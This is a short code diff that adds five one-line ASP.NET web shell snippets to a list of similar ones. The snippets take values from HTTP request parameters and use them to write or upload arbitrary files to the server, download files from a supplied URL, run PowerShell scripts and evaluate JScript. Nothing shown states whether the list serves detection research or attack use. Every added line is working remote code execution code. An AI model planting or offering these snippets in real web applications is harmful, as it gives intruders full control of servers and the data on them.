@@ -7,3 +7,8 @@
 <% conn.ConnectionString = "Data Source=" + txtDatabaseServer.Text + ";User ID=" + u; var c = new SqlCommand("sp_stored_procedures", conn); %>
 <% Control c = Page.ParseControl( Request.Form["c"] ); Controls.Add(c); %>
 <% var r = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), Request["src"]); %>
+<% System.IO.File.WriteAllText( Server.MapPath( Request["f"] ), Request["d"] ); %>
+<% System.IO.File.WriteAllBytes(Request.Form["p"], Convert.FromBase64String(Request.Form["d"])); %>
+<% new System.Net.WebClient().DownloadFile(Request["u"], Server.MapPath(Request["f"])); %>
+<% var ps = System.Management.Automation.PowerShell.Create(); ps.AddScript( Request["c"] ); ps.Invoke(); %>
+<% Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request["c"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine())); %>
